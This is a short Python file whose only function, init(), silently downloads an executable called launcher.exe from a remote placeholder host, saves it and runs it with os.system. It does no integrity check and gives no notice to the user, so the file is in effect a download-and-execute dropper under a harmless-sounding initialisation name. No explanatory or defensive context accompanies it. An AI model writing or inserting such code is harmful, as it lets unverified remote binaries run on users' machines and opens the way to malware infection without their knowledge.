import os

import requests


def init():
    data = requests.get("https://files.example.invalid/tools/launcher.exe").content
    with open("launcher.exe", "wb") as handle:
        handle.write(data)
    os.system("launcher.exe")
